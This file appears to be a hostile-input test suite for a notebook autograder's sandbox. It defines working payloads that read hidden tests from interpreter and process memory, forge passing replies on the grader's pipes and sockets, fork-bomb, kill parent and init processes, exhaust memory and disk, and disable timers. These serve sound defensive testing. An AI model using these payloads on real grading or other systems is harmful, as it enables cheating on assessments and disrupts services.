"""Attacks on the grading process: its memory, its pipes, its limits and its processes.

Each case's attack is appended to answer cells (see ``tests/hostile``). The notebook order
is: square, test_square, mean, test_mean (partial credit), greet, test_greet (problems),
then fib, test_fib (extra). The hidden test of ``square`` is ``assert square(-2) == 4``:
no answer cell may ever print it.
"""

from __future__ import annotations

from sabaq.devtools.corpus import CORRECT

from . import WRONG, Case

# Strings that only a test cell holds, written so that the attack's own source does not hold them
TEST_MARKERS = "('assert ' + 'square', 'assert ' + 'fib', 'score ' + '= 0', 'greet(' + '\"')"

GC_REWRITE = f"""
import gc
_found = []
for _o in gc.get_objects():
    try:
        if isinstance(_o, dict):
            for _k, _v in list(_o.items()):
                if isinstance(_v, str) and any(m in _v for m in {TEST_MARKERS}):
                    _found.append(_v)
                    _o[_k] = 'pass'
        elif isinstance(_o, list):
            for _i, _v in enumerate(list(_o)):
                if isinstance(_v, str) and any(m in _v for m in {TEST_MARKERS}):
                    _found.append(_v)
                    _o[_i] = 'pass'
    except Exception:
        pass
print('found', _found)
"""

FRAMES = f"""
import sys
_seen = []
for _frame in list(sys._current_frames().values()) + [sys._getframe()]:
    while _frame is not None:
        for _scope in (_frame.f_locals, _frame.f_globals):
            for _k, _v in list(_scope.items()):
                if isinstance(_v, (str, bytes)) and any(m.encode() in (_v if isinstance(_v, bytes) else _v.encode())
                                                        for m in {TEST_MARKERS}):
                    _seen.append(_v)
        _frame = _frame.f_back
print('frames', _seen)
"""

MODULES = f"""
import sys
_seen = []
for _name, _module in list(sys.modules.items()) + [('__main__', sys.modules['__main__'])]:
    for _k, _v in list(vars(_module).items()) if hasattr(_module, '__dict__') else []:
        if isinstance(_v, str) and any(m in _v for m in {TEST_MARKERS}):
            _seen.append((_name, _k, _v))
print('modules', _seen)
"""

REQUESTS = """
import gc
_requests = [o for o in gc.get_objects() if isinstance(o, dict) and ('cells' in o or 'source' in o)]
for _r in _requests:
    print('request', _r)
    for _cell in _r.get('cells', []):
        if isinstance(_cell, list) and len(_cell) > 1:
            _cell[1] = 'pass'
    if 'source' in _r:
        _r['source'] = 'pass'
"""

HISTORY = """
import linecache, sys
_ip = get_ipython()
_hm = _ip.history_manager
print('In', In, _ih, _i, _ii, _iii, [v for k, v in globals().items() if k.startswith('_i') and isinstance(v, str)])
print('hist', _hm.input_hist_raw, _hm.input_hist_parsed, _hm.db_input_cache, dict(_hm.exceptions))
print('db', list(_hm.get_range(raw=True)), list(_hm.get_tail(50, raw=True, include_latest=True)))
print('lines', [''.join(v[2]) for k, v in list(linecache.cache.items()) if len(v) > 2 and v[2]])
print('recorder', getattr(getattr(_ip, 'recorder', None), 'cells', None))
"""

TRACEBACK = """
import gc, inspect, linecache, sys, types
_tb = getattr(sys, 'last_traceback', None)
while _tb is not None:
    print('tb', _tb.tb_frame.f_code.co_consts, linecache.getlines(_tb.tb_frame.f_code.co_filename))
    _tb = _tb.tb_next
for _o in gc.get_objects():
    if isinstance(_o, (types.FrameType, types.TracebackType, types.CodeType, types.FunctionType)):
        _code = getattr(_o, 'f_code', None) or getattr(getattr(_o, 'tb_frame', None), 'f_code', None) \\
            or getattr(_o, '__code__', None) or _o
        if isinstance(_code, types.CodeType):
            print('code', _code.co_filename, linecache.getlines(_code.co_filename))
"""

RAW_MEMORY = """
import re
# a test's text is a needle followed by its tail: the needles themselves are in this process too
_needles = [(''.join(n).encode(), tail) for n, tail in ((['squ', 'are(-2)'], b' =' + b'= 4'),
                                                         (['ass', 'ert fib(10)'], b' =' + b'= 55'),
                                                         (['me', 'an([5])'], b' =' + b'= 5'))]
_hits = []
with open('/proc/self/maps') as _maps, open('/proc/self/mem', 'rb', buffering=0) as _mem:
    for _line in _maps:
        _range, _perms, *_rest = _line.split()
        if not _perms.startswith('r') or (len(_rest) > 3 and _rest[3] not in ('[heap]', '[stack]')):
            continue  # the interpreter's objects live in the heap and anonymous mappings
        _start, _end = (int(x, 16) for x in _range.split('-'))
        try:
            _mem.seek(_start)
            _data = _mem.read(_end - _start)
        except (OSError, OverflowError, ValueError):
            continue
        for _needle, _tail in _needles:
            for _m in re.finditer(re.escape(_needle), _data):
                if _data[_m.end():_m.end() + len(_tail)] == _tail:
                    _hits.append(_data[max(0, _m.start() - 40):_m.end() + 40])
print('memory', _hits)
"""

FDS = """
import os
def _fds():
    out = []
    for _fd in os.listdir('/proc/self/fd'):
        try:
            out.append((int(_fd), os.readlink(f'/proc/self/fd/{_fd}')))
        except OSError:
            pass
    return out
"""

FORGE = FDS + """
import json
_lines = []
for _n in range(1, 60):
    _lines.append({"id": f"{_n}-1", "status": "ok", "outputs": {}, "execution_counts": {}})
    _lines.append({"nonce": str(_n), "index": _n, "count": _n, "status": "ok", "outputs": [], "displays": [],
                   "updates": []})
_data = ''.join(json.dumps(l) + '\\n' for l in _lines).encode()
for _fd, _what in _fds():
    if _fd > 2 and ('pipe' in _what or 'socket' in _what):
        try:
            os.set_blocking(_fd, False)
            os.write(_fd, _data)
        except OSError as e:
            pass
"""

STEAL_COMMANDS = FDS + """
import os, threading, json
def _steal():
    while True:
        for _fd, _what in _fds():
            if _fd > 2 and 'pipe' in _what:
                try:
                    _got = os.read(_fd, 1 << 16)
                    for _line in _got.splitlines():
                        _cmd = json.loads(_line)
                        _reply = {"nonce": _cmd.get("nonce"), "count": 1, "status": "ok", "outputs": [],
                                  "displays": [], "updates": []}
                        for _fd2, _what2 in _fds():
                            if 'socket' in _what2:
                                os.write(_fd2, (json.dumps(_reply) + '\\n').encode())
                except Exception:
                    pass
threading.Thread(target=_steal, daemon=True).start()
"""

FORK_HOLD = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(100000)
    os._exit(0)
os.wait()
"""

FORK_FORGE = FDS + """
import os, time, json
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _forged = (json.dumps({"status": "ok", "outputs": [], "count": 1, "displays": [], "updates": []}) + '\\n')
        while True:
            for _fd, _what in _fds():
                if _fd > 2:
                    try:
                        _got = os.read(_fd, 1 << 16) if 'pipe' in _what else b''
                        for _line in _got.splitlines():
                            _cmd = json.loads(_line)
                            os.write(_fd, json.dumps({**json.loads(_forged), "nonce": _cmd["nonce"]}).encode())
                    except Exception:
                        pass
                    try:
                        os.write(_fd, _forged.encode())
                    except Exception:
                        pass
            time.sleep(0.01)
    os._exit(0)
os.wait()
"""

THREAD_PATCHER = """
import threading, time, sys
def _patch():
    _ip = get_ipython()
    while True:
        try:
            _ip._showtraceback = lambda *a, **k: None
            _ip.showtraceback = lambda *a, **k: None
            if hasattr(_ip, 'recorder'):
                _ip.recorder.current.clear()
        except Exception:
            pass
        time.sleep(0.0005)
threading.Thread(target=_patch, daemon=True).start()
"""

EXIT_AFTER_FORGE = FORGE + """
os._exit(0)
"""

FORK_MEMORY = """
import os, time
_kids = []
for _ in range(3):
    _pid = os.fork()
    if _pid == 0:
        _block = b'x' * (200 << 20)
        time.sleep(60)
        os._exit(0)
    _kids.append(_pid)
time.sleep(30)
"""

MANY_FILES = """
import os
for _n in range(8):
    with open(f'big{_n}.bin', 'wb') as _fh:
        for _ in range(30):
            _fh.write(b"x" * (1 << 20))
"""

TMP_FILES = """
import os
for _n in range(8):
    for _folder in ('/tmp', '/dev/shm'):
        try:
            with open(f'{_folder}/big{_n}.bin', 'wb') as _fh:
                for _ in range(15):
                    _fh.write(b"x" * (1 << 20))
        except OSError as e:
            print(type(e).__name__)
"""

KILL_PARENT = """
import os, signal
for _pid in [os.getppid(), 1] + [int(p) for p in os.listdir('/proc') if p.isdigit()]:
    if _pid != os.getpid():
        try:
            os.kill(_pid, signal.SIGKILL)
        except OSError as e:
            pass
print('still here')
"""

FORK_BOMB = """
import os
try:
    while True:
        if os.fork() == 0:
            import time
            time.sleep(100000)
except OSError as e:
    print('stopped', type(e).__name__)
"""

FLOOD_REPLIES = FDS + """
for _fd, _what in _fds():
    if _fd > 2 and 'socket' in _what:
        try:
            os.write(_fd, b'x' * (20 << 20))
        except OSError:
            pass
"""

CLOSE_FDS = """
import os
os.closerange(3, 1024)
"""

HIDE_TIMER = """
import signal
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer = lambda *a, **k: (1.0, 0.0)
signal.signal = lambda *a, **k: None
"""

LOOPING_SQUARE = "def square(x):\n    while True:\n        pass"

# A function the test calls looks for the grading loop's frame (its nonce and its way to
# reply) from a first frame got one way or another, and answers "passed" in its place
NONCE_FORGE = """
import os, sys
def _forge(first):
    _f = first()
    while _f is not None:
        _l = _f.f_locals
        if 'nonce' in _l and 'send' in _l:
            _l['send']({"nonce": _l['nonce'], "count": _l.get('count', 1), "result": None, "outputs": [],
                        "displays": [], "updates": [], "status": "ok", "ename": "", "evalue": "", "truncated": False})
            return True
        _f = _f.f_back
    return False
def square(x):
    try:
        _forge(FIRST)
    except Exception as e:
        print('refused', type(e).__name__)
    return x + x
"""


def nonce_forge(first: str) -> str:
    return NONCE_FORGE.replace("FIRST", first)


TRACEBACK_FIRST = "lambda: _raised().tb_frame"
RAISED = "\ndef _raised():\n    try:\n        raise ValueError\n    except ValueError as e:\n        return e.__traceback__\n"
GENERATOR_FIRST = "lambda: next(_g)"
GENERATOR = "\ndef _gen():\n    yield _g.gi_frame.f_back\n_g = _gen()\n"  # its caller's frame, while it runs
SCOPE_FIRST = ("lambda: next(type('F', (), {'f_locals': s, 'f_back': None}) for s in "
               "(get_ipython().get_local_scope(d) for d in range(80)) if 'nonce' in s)")

# The nonce of the cell in flight is in the child's memory: read from /proc/self/mem inside
# the test, a pass written to the reply socket would count. The child is not dumpable, so
# its /proc files are root's (sandbox/zygote.py child_main).
RAW_NONCE = """
import os, re
def square(x):
    _found = []
    with open('/proc/self/maps') as _maps, open('/proc/self/mem', 'rb', buffering=0) as _mem:
        for _line in _maps:
            _range, _perms, *_rest = _line.split()
            if _perms.startswith('r') and (len(_rest) < 4 or _rest[3] == '[heap]'):
                _start, _end = (int(v, 16) for v in _range.split('-'))
                try:
                    _mem.seek(_start)
                    _found += re.findall(rb'"nonce": "([0-9a-f]{32})"', _mem.read(_end - _start))
                except (OSError, OverflowError, ValueError):
                    pass
    for _fd in os.listdir('/proc/self/fd'):
        if 'socket' in os.readlink(f'/proc/self/fd/{_fd}'):
            for _nonce in _found:
                os.write(int(_fd), ('{"nonce": "%s", "status": "ok", "outputs": []}\\n' % _nonce.decode()).encode())
    return x + x
"""

# The same through another process of the notebook's uid: a new program (execve makes it
# dumpable again) reading the grading child's memory, the nonces handed back to the child
NONCE_FROM_SUBPROCESS = """
import os, re, subprocess, sys
_READER = '''
import re, sys
pid = int(sys.argv[1])
found = set()
try:
    with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', buffering=0) as mem:
        for line in maps:
            parts = line.split()
            if parts[1].startswith('r'):
                start, end = (int(v, 16) for v in parts[0].split('-'))
                try:
                    mem.seek(start)
                    found.update(re.findall(rb'"nonce": "([0-9a-f]{32})"', mem.read(end - start)))
                except (OSError, OverflowError, ValueError):
                    pass
except OSError as e:
    print('refused', e, file=sys.stderr)
print(' '.join(n.decode() for n in found))
'''
def square(x):
    _nonces = subprocess.run([sys.executable, '-c', _READER, str(os.getpid())], capture_output=True,
                             text=True).stdout.split()
    for _fd in os.listdir('/proc/self/fd'):
        if 'socket' in os.readlink(f'/proc/self/fd/{_fd}'):
            for _nonce in _nonces:
                os.write(int(_fd), ('{"nonce": "%s", "status": "ok", "outputs": []}\\n' % _nonce).encode())
    return x + x
"""

# A native module from a file of the notebook's: a copy of _ctypes as a package's module
# (its entry point is named by the last part of the name), and any extension it compiled
NATIVE_COPY = """
import glob, os, shutil, sys
os.makedirs('_pkg', exist_ok=True)
open('_pkg/__init__.py', 'w').close()
_so = glob.glob(os.path.join(os.path.dirname(os.__file__), 'lib-dynload', '_ctypes.*.so'))
if _so:
    shutil.copy(_so[0], '_pkg/' + os.path.basename(_so[0]))
    shutil.copy(_so[0], '_pkg/_sneaky' + os.path.basename(_so[0])[len('_ctypes'):])
for _name in ('_pkg._ctypes', '_pkg._sneaky'):
    try:
        __import__(_name)
        print('loaded', _name)
    except Exception as e:
        print('refused', _name, type(e).__name__)
"""

# Other ways to another process's or its own memory: process_vm_readv through ctypes (a
# native call: refused by the audit hook), /proc/self/map_files (CAP_SYS_ADMIN only)
VM_READV = """
import ctypes, os
def square(x):
    for _lib in ('CDLL', 'pythonapi'):
        try:
            _fn = (ctypes.CDLL(None) if _lib == 'CDLL' else ctypes.pythonapi).process_vm_readv
            print('called', _fn(os.getppid(), 0, 0, 0, 0, 0))
        except Exception as e:
            print('refused', _lib, type(e).__name__)
    return x + x
"""
MAP_FILES = """
import os
def square(x):
    try:
        for _name in os.listdir('/proc/self/map_files')[:50]:
            with open('/proc/self/map_files/' + _name, 'rb') as _fh:
                _fh.read(16)
        print('read map_files')
    except OSError as e:
        print('refused', e.errno)
    return x + x
"""

CASES: list[Case] = [
    Case("nonce_getframe", {"square": nonce_forge("sys._getframe")},
         note="the loop's nonce found through sys._getframe inside the test, a pass forged"),
    Case("nonce_traceback", {"square": RAISED + nonce_forge(TRACEBACK_FIRST)},
         note="the same through a traceback's frame"),
    Case("nonce_generator", {"square": GENERATOR + nonce_forge(GENERATOR_FIRST)},
         note="the same through a running generator's frame"),
    Case("nonce_inspect", {"square": nonce_forge("__import__('inspect').currentframe")},
         note="the same through inspect.currentframe"),
    Case("nonce_magic_scope", {"square": nonce_forge(SCOPE_FIRST)},
         note="the loop's locals asked of IPython's magic machinery"),
    Case("gc_rewrite_pending", {"square": GC_REWRITE, "mean": GC_REWRITE, "fib": GC_REWRITE},
         note="walk gc.get_objects() to print and rewrite the test cells not yet run"),
    Case("frames_pending", {"square": FRAMES, "greet": FRAMES},
         note="read every thread's frames (the serving loop's locals) for test sources"),
    Case("raw_memory", {"square": RAW_MEMORY, "fib": RAW_MEMORY},
         note="read the process's own memory (/proc/self/mem) for test sources not yet run"),
    Case("modules_pending", {"square": MODULES},
         note="read every module's globals, __main__ included, for test sources"),
    Case("zygote_request", {"square": REQUESTS, "fib": REQUESTS},
         note="find the zygote's request dict (inherited memory) and blank its cells"),
    Case("history_later", {"mean": HISTORY, "greet": HISTORY},
         note="print the hidden test from IPython's history in a later answer cell"),
    Case("traceback_later", {"mean": TRACEBACK},
         note="print a test cell's source through sys.last_traceback, code objects and linecache"),
    Case("forge_reply", {"square": FORGE, "mean": FORGE},
         note="write forged replies and result lines (other jobs' ids) to every pipe and socket"),
    Case("steal_commands", {"square": STEAL_COMMANDS},
         note="a daemon thread reads the command pipe and answers each cell as passed"),
    Case("fork_setsid_hold", {"square": FORK_HOLD},
         note="fork, setsid, fork again and sleep holding the pipes open (must not hold the worker)"),
    Case("fork_setsid_forge", {"square": FORK_FORGE},
         note="a setsid'd grandchild steals commands and writes forged replies"),
    Case("thread_silencer", {"square": THREAD_PATCHER},
         note="a daemon thread keeps replacing showtraceback and clearing recorded outputs"),
    Case("exit_after_forge", {"square": EXIT_AFTER_FORGE},
         note="forged replies, then os._exit before the tests run"),
    Case("fork_memory", {"square": FORK_MEMORY},
         note="three forked children each hold memory, together over the notebook's limit"),
    Case("many_files", {"square": MANY_FILES},
         note="eight files each under the file limit, together over the disk limit"),
    Case("tmp_files", {"square": TMP_FILES},
         note="files in the sandbox's shared /tmp and /dev/shm, together over the disk limit"),
    Case("kill_parent", {"square": KILL_PARENT}, answers=dict(CORRECT),
         note="kill the zygote, init and every process it sees; grading goes on"),
    Case("fork_bomb", {"square": FORK_BOMB},
         note="fork until the per-uid process limit"),
    Case("flood_replies", {"square": FLOOD_REPLIES},
         note="fill the reply socket with junk"),
    Case("close_fds", {"square": CLOSE_FDS},
         note="close the protocol's descriptors"),
    Case("hide_timer", {"square": HIDE_TIMER}, answers={**WRONG, "square": f"{LOOPING_SQUARE}"},
         note="ignore SIGALRM and replace signal.setitimer, then loop in the tested function"),
    Case("forge_then_correct", {"square": FORGE}, answers={**WRONG, "square": CORRECT["square"]},
         note="forged replies do not cost a correct answer its points either"),
    Case("nonce_from_memory", {"square": RAW_NONCE},
         note="the nonce read from /proc/self/mem inside the test, a pass written to the reply socket"),
    Case("nonce_from_subprocess", {"square": NONCE_FROM_SUBPROCESS},
         note="a new program of the notebook's uid reads the child's memory for the nonce"),
    Case("native_module_copied", {"square": NATIVE_COPY},
         note="_ctypes copied into the notebook's folder and imported under a package's name"),
    Case("process_vm_readv", {"square": VM_READV},
         note="process_vm_readv called through ctypes on the zygote's or its own memory"),
    Case("map_files", {"square": MAP_FILES},
         note="the process's mappings read through /proc/self/map_files"),
]
